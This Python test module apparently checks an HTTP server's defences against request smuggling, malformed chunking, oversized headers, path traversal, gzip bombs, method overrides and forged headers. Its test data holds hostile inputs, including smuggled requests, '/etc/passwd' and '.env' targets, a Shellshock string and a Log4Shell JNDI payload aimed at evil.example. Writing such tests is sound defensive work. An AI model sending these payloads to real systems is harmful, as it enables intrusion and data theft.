"""F: HTTP itself: framing, smuggling, heads too large, odd targets, forged headers."""

import gzip
import zlib

from .wire import Broken, Connection
from .world import furnish

PING = b'{"jsonrpc":"2.0","id":1,"method":"ping"}'
HOST = b"host: x\r\n"
LIVE = b"GET /health/live HTTP/1.1\r\n"
# What follows a request on the same connection, if a server can be made to take it for one.
SMUGGLED = b"GET /smuggled HTTP/1.1\r\nhost: x\r\n\r\n"


def run(t):
    furnish(t)
    key = b"authorization: Bearer " + t.a.key.encode() + b"\r\n"
    framing(t, b"POST /mcp HTTP/1.1\r\n" + HOST + key + b"content-type: application/json\r\n")
    chunks(t, b"POST /mcp HTTP/1.1\r\n" + HOST + key + b"content-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n")
    lines(t, key)
    sizes(t, key)
    targets(t)
    encodings(t)
    forged(t)
    pipelines(t, key)


def answers(t, data, wait=1.5):
    """Every answer to these bytes until the other side is silent or closes."""
    connection, got = Connection(t.place, wait), []
    try:
        connection.send(data)
        while True:
            got.append(connection.answer())
    except (Broken, OSError):
        return got
    finally:
        connection.close()


def one(t, name, data, statuses, wait=0.4):
    """At most one answer, of these statuses; None among them: the connection may just be closed."""
    got = answers(t, data, wait)
    for answer in got:
        # An unreadable head is answered by the socket's library, before there is a request.
        t.demand(name, answer, "/mcp", is_ours=bool(answer.body) or answer.status < 400)
    told = [answer.status for answer in got] or [None]
    statuses = statuses if isinstance(statuses, tuple) else (statuses,)
    t.case("F", name, len(told) == 1 and told[0] in statuses, statuses, got or "closed")


def framing(t, head):
    """Two readers of a request must not see two bodies: refused, or the connection ends with the answer."""
    size = b"content-length: %d\r\n" % len(PING)
    chunked = b"28\r\n" + PING + b"\r\n0\r\n\r\n"
    one(t, "length and chunks: the length is shorter", head + b"content-length: 6\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED, 400)
    one(t, "length and chunks: the length is longer", head + b"transfer-encoding: chunked\r\ncontent-length: 400\r\n\r\n" + chunked + SMUGGLED, (200, 400))
    one(t, "chunks and length: the length is shorter", head + b"transfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n" + chunked + SMUGGLED, (200, 400))
    for coding in (b"identity", b"xchunked", b"chunked, identity", b"chunked;q=1", b"\x0bchunked", b"\"chunked\"", b"chunk\xc3\xa9d", b"chunked,", b"", b"chunked\x00"):
        one(t, f"transfer-encoding {coding!r}", head + b"transfer-encoding: " + coding + b"\r\n\r\n" + chunked + SMUGGLED, 400)
    for coding in (b"gzip, chunked", b"deflate, chunked", b"identity, chunked", b"chunked, chunked"):
        one(t, f"transfer-encoding {coding!r}", head + b"transfer-encoding: " + coding + b"\r\n\r\n" + chunked, (400, 415))
    one(t, "transfer-encoding twice", head + b"transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n\r\n" + chunked + SMUGGLED, 400)
    one(t, "transfer-encoding twice, the other way", head + b"transfer-encoding: identity\r\ntransfer-encoding: chunked\r\n\r\n" + chunked, (400, 415))
    one(t, "a blank before the colon", head + b"transfer-encoding : chunked\r\n\r\n" + chunked + SMUGGLED, 400)
    one(t, "chunks in HTTP/1.0", head.replace(b"HTTP/1.1", b"HTTP/1.0") + b"transfer-encoding: chunked\r\n\r\n" + chunked + SMUGGLED, 400)
    one(t, "a folded transfer-encoding", head + b"transfer-encoding:\r\n chunked\r\n\r\n" + chunked + SMUGGLED, 400)
    for length in (b"40\r\ncontent-length: 41", b"+40", b"40, 40", b"-1", b"0x28", b"40.0", b"4e1", b"", b"40 40", b"\xef\xbc\x94\xef\xbc\x90", b"99999999999999999999999"):
        one(t, f"content-length {length!r}", head + b"content-length: " + length + b"\r\n\r\n" + PING + SMUGGLED, 400)
    one(t, "content-length of 64 bits", head + b"content-length: 18446744073709551615\r\n\r\n" + PING, (400, 413, 431))
    one(t, "content-length of 63 bits", head + b"content-length: 9223372036854775807\r\n\r\n", 413, wait=4)
    one(t, "the same content-length twice", head + size * 2 + b"\r\n" + PING, (200, 400))
    one(t, "a GET with a body", LIVE + HOST + b"content-length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED, (200, 400))
    one(t, "expect with a bad key", head.replace(b"kv_live_", b"kv_livf_") + size + b"expect: 100-continue\r\n\r\n", 401)
    got = answers(t, head + size + b"expect: 100-continue\r\n\r\n" + PING)
    t.case("F", "expect with a good key", [(a.status, a.interim) for a in got] == [(200, [100])], "100, 200", got)
    one(t, "another expectation", head + size + b"expect: 200-maybe\r\n\r\n" + PING, (200, 400))


def chunks(t, head):
    for name, body, status in (
        ("an extension", b"28;a=b\r\n" + PING + b"\r\n0\r\n\r\n", (200, 400)), ("an extension of 20,000", b"28;" + b"a" * 20_000 + b"\r\n" + PING + b"\r\n0\r\n\r\n", 400),
        ("5,000 extensions", b"1;aaaa\r\n \r\n" * 5000 + b"28\r\n" + PING + b"\r\n0\r\n\r\n", 400), ("a size of 68 bits", b"FFFFFFFFFFFFFFFFF\r\nx", 400),
        ("a size of 64 bits", b"FFFFFFFFFFFFFFFF\r\nx", (400, 413, None)), ("a negative size", b"-1\r\nx", 400), ("a size with 0x", b"0x28\r\n" + PING + b"\r\n0\r\n\r\n", 400),
        ("no line end behind a chunk", b"28\r\n" + PING + b"0\r\n\r\n", 400), ("bare line feeds", b"28\n" + PING + b"\n0\n\n", 400), ("no size", b"\r\n" + PING, 400),
        ("a plus", b"+28\r\n" + PING + b"\r\n0\r\n\r\n", 400), ("a blank in a size", b"2 8\r\n" + PING + b"\r\n0\r\n\r\n", 400), ("a word", b"ping\r\n", 400),
        ("a trailer that authenticates", b"28\r\n" + PING + b"\r\n0\r\nauthorization: Bearer x\r\nx-api-key: x\r\n\r\n", 200),
        ("5,000 trailers", b"28\r\n" + PING + b"\r\n0\r\n" + b"x: y\r\n" * 5000 + b"\r\n", (200, 400)),
        ("a body over the limit", (b"4000\r\n" + b" " * 0x4000 + b"\r\n") * 17 + b"0\r\n\r\n", 413), ("a line end in an extension", b"28;a\nb\r\n" + PING + b"\r\n0\r\n\r\n", 400),
        ("a chunk that is short", b"29\r\n" + PING + b"\r\n0\r\n\r\n", 400),
    ):
        one(t, f"chunks: {name}", head + body, status, wait=3 if "limit" in name or "5,000" in name else 0.4)


def lines(t, key):
    end = b"\r\n"
    for name, data, status in (
        ("a folded line", LIVE + HOST + b"x-a: b\r\n c\r\n\r\n", 400), ("bare carriage returns", LIVE.replace(b"\r\n", b"\r") + b"host: x\r\r", (400, None)),
        ("bare line feeds", b"GET /health/live HTTP/1.1\nhost: x\n\n", (200, 400)), ("a NUL in a value", LIVE + HOST + b"x-a: b\x00c\r\n\r\n", 400),
        ("a carriage return in a value", LIVE + HOST + b"x-a: b\rc\r\n\r\n", 400), ("a blank in a name", LIVE + HOST + b"x a: b\r\n\r\n", 400),
        ("no name", LIVE + HOST + b": b\r\n\r\n", 400), ("no colon", LIVE + HOST + b"xa\r\n\r\n", 400), ("a name beyond ASCII", LIVE + HOST + "ü: 1\r\n\r\n".encode(), 400),
        ("no host", LIVE + end, 400), ("two hosts", LIVE + HOST + b"host: y\r\n\r\n", 400), ("HTTP/0.9", b"GET /health/live\r\n\r\n", (400, None)),
        ("HTTP/1.0", b"GET /health/live HTTP/1.0\r\n\r\n", 200), ("HTTP/2 at once", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", (400, None)),
        ("HTTP/3.0", b"GET /health/live HTTP/3.0\r\n" + HOST + end, (400, None)), ("HTTP/1.2", b"GET /health/live HTTP/1.2\r\n" + HOST + end, (400, None)),
        ("http/1.1", b"GET /health/live http/1.1\r\n" + HOST + end, (400, None)), ("TLS", b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + bytes(160), (400, None)),
        ("two blanks", b"GET  /health/live HTTP/1.1\r\n" + HOST + end, 400), ("tabs", b"GET\t/health/live\tHTTP/1.1\r\n" + HOST + end, 400),
        ("no target", b"GET HTTP/1.1\r\n" + HOST + end, 400), ("a quote in the target", b'GET /api/accounts?limit="5" HTTP/1.1\r\n' + HOST + key + end, 400),
        ("a NUL in the target", b"GET /health/live\x00 HTTP/1.1\r\n" + HOST + end, 400), ("a tab in the target", b"GET /health\t/live HTTP/1.1\r\n" + HOST + end, 400),
        ("UTF-8 in the target", "GET /é HTTP/1.1\r\n".encode() + HOST + key + end, (400, 404)), ("bytes in the target", b"GET /\xff\xfe HTTP/1.1\r\n" + HOST + key + end, (400, 404)),
        ("101 lines", LIVE + HOST + b"".join(b"x-%d: 1\r\n" % i for i in range(101)) + end, (200, 431)), ("20,000 lines", LIVE + HOST + b"a:b\r\n" * 20_000 + end, 431),
        ("an upgrade to h2c", LIVE + HOST + b"connection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABk\r\n\r\n", 200),
        ("an upgrade to a websocket", b"GET /mcp HTTP/1.1\r\n" + HOST + key + b"connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: AA==\r\n\r\n", 405),
        ("CONNECT", b"CONNECT evil.example:443 HTTP/1.1\r\n" + HOST + key + end, (400, 404, 405)), ("OPTIONS *", b"OPTIONS * HTTP/1.1\r\n" + HOST + key + end, (204, 400, 404, 405)),
        ("another host in the target", b"GET http://evil.example/health/live HTTP/1.1\r\n" + HOST + end, (200, 400)),
        ("a file as target", b"GET file:///etc/passwd HTTP/1.1\r\n" + HOST + key + end, (400, 404)),
        ("a method of ours in small letters", b"get /health/live HTTP/1.1\r\n" + HOST + key + end, (400, 405)), ("a method of 10,000", b"A" * 10_000 + b" / HTTP/1.1\r\n" + HOST + end, (400, 401, 405)),
        ("a method with signs", b"G=T / HTTP/1.1\r\n" + HOST + end, 400), ("a raw newline in a forged line", LIVE + HOST + b"x-request-id: a\r\nx-b: c\r\n\r\n", 200),
    ):
        one(t, name, data, status)
    got = answers(t, b"TRACE /health/live HTTP/1.1\r\n" + HOST + key + b"x-canary: bird\r\n\r\n", 0.4)
    t.case("F", "TRACE does not echo", [a.status for a in got] == [405] and b"bird" not in got[0].body, 405, got)


def sizes(t, key):
    """Bounds of the head: 32 KiB for the target, 64 KiB for the lines."""
    for name, data, status in (
        ("a target of 31 KiB", b"GET /api/trade-events?symbols=" + b"a," * 15_800 + b"b HTTP/1.1\r\n" + HOST + key + b"\r\n", (200, 400)),
        ("a target of 33 KiB", b"GET /health/live?" + b"a" * 33_000 + b" HTTP/1.1\r\n" + HOST + b"\r\n", 414),
        ("a target of 70 KiB", b"GET /health/live?" + b"a" * 70_000 + b" HTTP/1.1\r\n" + HOST + b"\r\n", (414, 431)),
        ("a target of 2 MiB", b"GET /" + b"a" * 2_000_000 + b" HTTP/1.1\r\n" + HOST + b"\r\n", (414, 431, None)),
        ("a line of 60 KiB", LIVE + HOST + b"x-a: " + b"a" * 60_000 + b"\r\n\r\n", 200), ("a line of 70 KiB", LIVE + HOST + b"x-a: " + b"a" * 70_000 + b"\r\n\r\n", 431),
        ("a line of 2 MiB", LIVE + HOST + b"x-a: " + b"a" * 2_000_000 + b"\r\n\r\n", (431, None)), ("a name of 70 KiB", LIVE + HOST + b"a" * 70_000 + b": 1\r\n\r\n", (400, 431)),
        ("90 lines of 1 KiB", LIVE + HOST + (b"x-a: " + b"a" * 1000 + b"\r\n") * 90 + b"\r\n", 431), ("a key of 60 KiB", LIVE.replace(b"/health/live", b"/api/accounts") + HOST + b"x-api-key: " + b"a" * 60_000 + b"\r\n\r\n", 401),
    ):
        one(t, name, data, status, wait=2)


def targets(t):
    for path in ("/../etc/passwd", "/api/../api/accounts", "/api/./accounts", "/api//accounts", "//api/accounts", "/api/accounts/", "/API/accounts", "/api/Accounts",
                 "/api/accounts%00", "/api/accounts%2f", "/api%2faccounts", "/api/accounts/..%2fkeys", "/api/accounts/%2e%2e/keys", "/api/accounts;a=b", "/api/accounts%20",
                 "/api/accounts.json", "/api/accounts%23", "/api/accounts%3f", "/..%c0%af..%c0%afetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/.env", "/.git/config",
                 "/server-status", "/actuator/env", "/debug/pprof", "/metrics", "/admin", "/api", "/api/", "/graphql", "/swagger.json", "/api/export/..%2f..%2fetc",
                 "/api/export/%ff", "/api/settings/ai-keys/..", "/health/%6cive/", "/wp-login.php", "/api/accounts\\", "/*", "/%", "/%zz", "/api/keys/self/"):
        t.refused("F", f"GET {path}", t.ask("GET", path, t.a.key), (400, 404, 405))
        t.answered("F", f"GET {path} of nobody", t.ask("GET", path), (400, 401, 404))
    for method in ("PUT", "PATCH", "DELETE", "FOO", "PROPFIND", "LINK", "get", "PURGE"):
        answer = t.ask(method, "/api/status", t.a.key)
        t.refused("F", f"{method} /api/status", answer, 405, "method_not_allowed")
        t.case("F", f"{method} /api/status says what is allowed", "GET" in (answer.header("allow") or ""), "allow", answer)
    for name in ("x-http-method-override", "x-http-method", "x-method-override", "_method"):
        answer = t.ask("GET", f"/api/portfolios/{t.a.things['portfolio']}", t.a.key, [(name, "DELETE")])
        t.answered("F", f"{name} changes nothing", answer)
    t.answered("F", "what was to be deleted is there", t.ask("GET", f"/api/portfolios/{t.a.things['portfolio']}", t.a.key))
    t.refused("F", "_method in the query", t.ask("GET", "/api/status?_method=DELETE", t.a.key), 400, "invalid_request")


def encodings(t):
    bomb = gzip.compress(bytes(50_000_000), 9)
    for coding, body in (("gzip", gzip.compress(PING)), ("x-gzip", gzip.compress(PING)), ("deflate", zlib.compress(PING)), ("br", PING), ("zstd", PING), ("compress", PING),
                         ("GZIP", gzip.compress(PING)), ("gzip, gzip", PING), ("identity, gzip", PING), ("gzip, identity", PING), ("", PING), ("aes128gcm", PING), ("gzip;q=1", PING)):
        answer = t.rpc(body, headers=[("content-encoding", coding)])
        t.refused("F", f"content-encoding {coding!r}", answer, 415, "unsupported_media_type")
    for pair in (["identity", "gzip"], ["gzip", "identity"], ["identity", "identity, br"]):
        answer = t.rpc(PING, headers=[("content-encoding", coding) for coding in pair])
        t.refused("F", f"content-encoding on two lines {pair}", answer, 415, "unsupported_media_type")
    t.refused("F", "50 MB of zeros in gzip", t.rpc(bomb[:250_000], headers=[("content-encoding", "gzip")]), 415)
    t.fault("F", "gzip that is not said", t.rpc(gzip.compress(PING)), -32700, 400)
    t.answered("F", "content-encoding identity", t.rpc(PING, headers=[("content-encoding", "identity")]))
    for accepted in ("gzip", "gzip;q=0", "*;q=0", "identity;q=0", "*;q=0, gzip;q=0", "br, zstd, gzip, deflate", "x" * 5000, "gzip;q=9999"):
        t.answered("F", f"accept-encoding {accepted[:20]}", t.ask("GET", "/api/accounts", t.a.key, [("accept-encoding", accepted)]))


def forged(t):
    for name, value in (("host", "evil.example"), ("host", ""), ("host", "evil.example:99999"), ("host", "127.0.0.1@evil.example"), ("host", "[::1"), ("host", "a" * 5000),
                        ("x-forwarded-host", "evil.example"), ("x-forwarded-proto", "gopher"), ("forwarded", "host=evil.example;proto=x"), ("x-forwarded-prefix", "/evil.example"),
                        ("x-original-url", "/api/keys/self"), ("x-rewrite-url", "/api/keys/self"), ("referer", "https://evil.example"), ("x-forwarded-for", "evil.example"),
                        ("x-forwarded-for", "1.1.1.1," * 3000), ("x-forwarded-for", "\u202e"), ("user-agent", "() { :;}; echo evil.example"), ("user-agent", "${jndi:ldap://evil.example/a}"),
                        ("accept-language", "../evil.example"), ("range", "bytes=0-1,5-4,-0"), ("range", "bytes=" + "0-," * 5000), ("if-none-match", '"' + "x" * 5000 + '"'),
                        ("if-none-match", ", , ,"), ("if-modified-since", "evil.example"), ("if-range", "x"), ("te", "trailers, deflate;q=0.5"), ("max-forwards", "-1"), ("cookie", "a=evil.example; " * 500),
                        ("traceparent", "00-" + "0" * 32 + "-" + "0" * 16 + "-00"), ("traceparent", "ff-x"), ("tracestate", "evil.example=" + "x" * 5000), ("connection", "close, authorization"), ("connection", "x-api-key"),
                        ("upgrade-insecure-requests", "1"), ("sec-fetch-site", "cross-site"), ("authorization-x", "evil.example")):
        answer = t.ask("GET", "/api/accounts", t.a.key, [(name, value)])
        said = answer.body + "".join(v for _, v in answer.headers).encode()
        t.case("F", f"{name} {value[:30]!r} changes nothing", answer.status == 200 and b"evil.example" not in said, 200, answer)
    for text, is_kept in (("abc-1.2_3", True), ("", False), ("a b", False), ("x" * 65, False), ("x" * 64, True), ("a\u00e9", False), ("<script>", False), ("a,b", False), ("%0d%0a", False), ("${x}", False)):
        answer = t.ask("GET", "/health/live", headers=[("x-request-id", text)])
        t.case("F", f"request id {text[:20]!r}", (answer.header("x-request-id") == text) == is_kept, is_kept, answer.header("x-request-id"))
    for origin, path in (("https://evil.example", "/api/accounts"), ("null", "/api/agents/register"), ("https://evil.example", "/health/live"), ("https://evil.example", "/nothing")):
        for method in ("GET", "POST", "OPTIONS"):
            lines = [("origin", origin), ("access-control-request-method", "POST")]
            answer = t.ask(method, path, t.a.key, lines, body=b"{}" if method == "POST" else None)
            t.refused("F", f"{method} {path} of origin {origin}", answer, 403, "origin_not_allowed")
            t.case("F", f"{method} {path}: no page is let in", answer.header("access-control-allow-origin") is None, None, answer.header("access-control-allow-origin"))


def pipelines(t, key):
    """Three requests in one packet are three answers, in their order."""
    ask = b"GET /api/keys/self HTTP/1.1\r\n" + HOST + key + b"\r\n"
    other = b"GET /api/keys/self HTTP/1.1\r\n" + HOST + b"x-api-key: " + t.b.key.encode() + b"\r\n\r\n"
    got = [answer.json["data"]["id"] for answer in answers(t, ask + other + ask)]
    t.case("F", "a pipeline of two workspaces", got == [t.a.key_id, t.b.key_id, t.a.key_id], "a, b, a", got)
    got = [answer.status for answer in answers(t, (LIVE + HOST + b"\r\n") * 200)]
    t.case("F", "a pipeline of 200", got == [200] * 200, "200 answers", len(got))
    got = [answer.status for answer in answers(t, ask + b"POST /mcp HTTP/1.1\r\n" + HOST + key + b"content-length: x\r\n\r\n" + ask)]
    t.case("F", "what follows broken framing is not read", got == [200, 400], [200, 400], got)
    missing = b"POST /api/accounts HTTP/1.1\r\n" + HOST + b"content-length: %d\r\n\r\n" % len(other) + other
    got = [answer.status for answer in answers(t, missing)]
    t.case("F", "the body of a refused request is not a request", got == [401], [401], got)
